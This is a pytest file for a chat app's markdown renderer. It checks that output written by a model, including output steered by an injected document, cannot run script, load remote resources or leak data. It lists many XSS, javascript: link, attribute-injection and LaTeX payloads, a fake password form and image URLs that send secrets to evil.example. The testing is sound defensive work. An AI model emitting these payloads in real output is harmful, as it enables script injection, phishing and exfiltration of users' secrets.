"""Whatever a model writes, by itself or told to by a document, the page stays ours."""

import re
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.markdown import LiveDocument, render
from chat.markdown.sanitizer import sanitize

from .page import Page

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" / >',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#//evil.example" xlink:href="javascript:1">x</math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=1&gt;'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    '<button formaction="javascript:alert(1)">x</button>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example>",
    '<a id=config name=config href="javascript:alert(1)">x</a>',
    '<p class="copy" id="messages" name="attributes">x</p>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><html><head>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE html>",
    "</div></main></body><h1>Sign in again</h1>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea autofocus onfocus=alert(1)>",
    "<a href='//a.example' onclick=alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x3cscript\x3ealert(1)",
    "<\0script>alert(1)</script>",
    "<img/src=`x`onerror=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "- <script>\n  alert(1)\n  </script>",
    "> <img\n> src=x onerror=alert(1)>",
    "# <svg/onload=alert(1)>",
    "`` <img src=x onerror=alert(1)> ``",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:a.example/1)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](?next=x)",
    "[x](#main)",
    "[x](\\\\evil.example)",
    "[x](httpx://a.example)",
    "[x](https:evil)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<jav&#x09;ascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[^1]\n\n[^1]: <javascript:alert(1)>",
    "[<img src=x onerror=alert(1)>](javascript:alert(1))",
]
INJECTIONS = [
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    '[x](<https://a.example/"onmouseover=alert(1)//>)',
    '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "[a](https://a.example/<b>(c))",
    '<https://a.example/"onclick=alert(1)>',
    "<https://a.example/?<script>>",
    '[![x](https://a.example/"onload=1)](https://b.example)',
    '!["onload=alert(1)](https://a.example)',
    "![<script>alert(1)</script>](https://a.example)",
    "![[a](https://a.example)](https://b.example)",
    "![![a](https://a.example)](https://[1/x)",
    "[a [b](https://b.example) c](https://a.example)",
    "[1](https://a.example)[1][1][x](https://[1)",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    '```py" onclick="alert(1)\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```../../etc/passwd\nx\n```",
    "```python&lt;img&gt;\nx\n```",
    "```__class__\nx\n```",
    "~~~javascript:alert(1)\n<b>\n~~~",
    "    <script>alert(1)</script>",
    "\u202ehttps://evil.example\u202c [\u202elmth](https://a.example/\u202e)",
    "[а](https://xn--80ak6aa92e.example/\u200b)",
    "[x](https://a\u3002example/\ud800)",
    "<ſcript>alert(1)</ſcript>",
    "\ufeff<script\ufeff>",
    "&#0; &#xD800; &#x110000; \x00 \x1b[31m",
]
FORMULAS = [
    r"\href{javascript:alert(1)}{x}",
    r"\href{https://evil.example}{x}",
    r"\style{position:fixed;inset:0;background:url(//evil.example)}{x}",
    r"\class{copy}{x}",
    r"\class{\" onclick=alert(1)}{x}",
    r"\cssId{messages}{x}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{&lt;img src=x onerror=alert(1)&gt;}",
    r"\text{</mtext></math><script>alert(1)</script>}",
    r"\mbox{<style><img title='</style><img src=x onerror=alert(1)>'>}",
    r"\operatorname{</math><script>alert(1)</script>}",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\unicode{60;script&#62}",
    r"\verb|<script>alert(1)</script>|",
    r"\color{red;background:url(//evil.example)}{x}",
    r"\textcolor{\" onload=alert(1)}{x}",
    r"\colorbox{url(//evil.example)}{x}",
    r"\fcolorbox{red\" x=}{blue}{x}",
    r"\rule{99em}{99em}",
    r"\hspace{9999px}x",
    r"\raise{-99em}{x}",
    r"\moveleft{99em}{\text{Sign in}}",
    r"\Huge\Huge\Huge x",
    r"\begin{array}{c|c}<b>&<script>\\\hline x\end{array}",
    r"\includegraphics{https://evil.example}",
    r"\require{html}\data{x=y}{z}",
    r"\frac{\"}{<}'>&",
    r"\def\a{\a\a}\a",
    r"\newcommand{\a}[1]{#1#1#1#1}\a{\a{\a{\a{x}}}}",
    r"x^{y^{z^{<script>}}}",
]


@pytest.mark.parametrize("text", HTML)
def test_html_is_shown_as_it_was_written(text):
    page = Page(render(text, 3))

    assert not page.links


# The buttons and boxes of ours it lets through, whoever wrote them.
@pytest.mark.parametrize("text", [text for text in HTML if not re.search("<(button|input)", text)])
def test_html_that_a_rule_let_through_would_stop_at_the_sanitizer(text):
    page = Page(sanitize(text))

    assert not any(page.links)


@pytest.mark.parametrize("text", LINKS)
def test_links_to_elsewhere_than_the_web_are_none(text):
    page = Page(render(text))

    assert not page.links


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_is_put_into_a_page_stays_where_it_was_put(text):
    Page(render(text, 3))


@pytest.mark.parametrize("latex", FORMULAS)
@pytest.mark.parametrize("form", ["${}$", "$${}$$", "$$\n{}\n$$", "\\[\n{}\n\\]", r"\({}\)"])
def test_formulae_only_draw(latex, form):
    page = Page(render(form.replace("{}", latex)))

    assert not page.links


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![](//evil.example/?q=secret)",
        "![x][y]\n\n[y]: https://evil.example/?q=secret",
        '<img src="https://evil.example/?q=secret">',
        "[![x](https://evil.example/?q=secret)](https://a.example)",
        "![x](https://evil.example/?q=secret 'title')",
        "<video poster=https://evil.example/?q=secret>",
    ],
)
def test_nothing_is_loaded_from_anywhere(text):
    html = render(text)

    Page(html)
    assert not re.search(r"<[^>]*\b(src|srcset|poster|background|data|style)=", html)


def test_ids_of_attachments_cannot_be_linked_by_a_model():
    assert Page(render("[x](#attachment-1) [2]", 2)).links == ["#attachment-2"]


def test_pieces_of_a_tag_are_none():
    text = "a <img src=x onerror=alert(1)>\n\n```<b>\n</code></pre><svg onload=alert(1)>"
    document = LiveDocument()

    for character in text:
        for block in document.feed(character):
            Page(block.html)


PIECES = [
    *("<", ">", '"', "'", "`", "&", "&#", ";", "=", "/", "\\", "(", ")", "[", "]", "{", "}", "!"),
    *("javascript:", "data:", "https://", "mailto:", "onerror=", "script", "img", "svg", "style"),
    *("$", "$$", r"\(", r"\)", r"\[", r"\]", r"\text{", r"\href{", r"\class{", r"\unicode{x3c}"),
    *(r"\style{", r"\color{", r"\frac", r"\hspace{", r"\begin{matrix}", r"\end{matrix}", "^", "_"),
    *("```", "~~~", "\n", "\n\n", " ", "    ", "- ", "1. ", "> ", "# ", "|", "|-|", "*", "**"),
    *("<!--", "-->", "<![CDATA[", "]]>", "\0", "\u202e", "\ud800", "x", "1", "[1]", "![", "]("),
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_mixture_of_these_gets_out(text):
    Page(render(text, 3))


@given(st.text(max_size=200))
def test_no_other_text_gets_out(text):
    Page(render(text, 3))


# Too much of something: no error, and no more work than the text is long.

REPEATED = [
    *("[", "![", "]", "[]", "[a](", "[[a]", "(", ">", "> ", "*", "**", "_a ", "~~a", "*a**"),
    *("`", "``a`", "<", "<a@", "<https://", "&", "&#", "\\", "|", "a|", "#", "- ", "1. ", "* a"),
    *("$", "$$", "$a ", "$a$", r"\(", r"\(a", r"\[", r"\[a\(", "$$a$", r"$\$", "{", "\t", "a\n"),
    *("- a\n", "> - ", "```\n", "~~~", "$$\n", "\n", "|a|\n|-|\n", "    a\n\n", "[1]", "<!--"),
]
SIZE = 100_000


def repeated(part, size):
    return part * (size // len(part))


def num_calls(function, *arguments):
    """Of functions, while it runs: the work it makes, without a clock."""
    calls = 0

    def count(frame, event, argument):
        nonlocal calls
        calls += 1

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        function(*arguments)
    finally:
        sys.setprofile(before)
    return calls


@pytest.mark.parametrize("part", ["[", "![", ">", "*"])
def test_very_much_of_one_sign_is_rendered_nevertheless(part):
    Page(render(repeated(part, SIZE)))


@pytest.mark.parametrize("part", REPEATED)
def test_twice_as_much_of_anything_is_twice_the_work(part):
    once, twice = (num_calls(render, repeated(part, size)) for size in (2000, 4000))

    assert twice < 2.5 * once


@pytest.mark.parametrize("part", REPEATED)
def test_too_much_of_anything_is_rendered_nevertheless(part):
    Page(render(repeated(part, 5000), 3))


@pytest.mark.parametrize(
    "text",
    [
        "".join("  " * depth + "- a\n" for depth in range(400)),
        "".join(">" * (depth % 90) + " a\n" for depth in range(2000)),
        "$" + "{" * 900 + "}" * 90 + "$",
        "$$\n" + r"\sqrt" * 700 + "x\n$$",
        "$$\n" + r"\frac{1}{" * 400 + "x" + "}" * 400 + "\n$$",
        "$$\n" + "x^{" * 900 + "}" * 900 + "\n$$",
        "$$\n" + r"\left(" * 600 + r"\right)" * 600 + "\n$$",
        "$$\n" + "x" * SIZE + "\n$$",
        "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|\n" * 400,
    ],
)
def test_too_deep_is_rendered_nevertheless(text):
    Page(render(text))
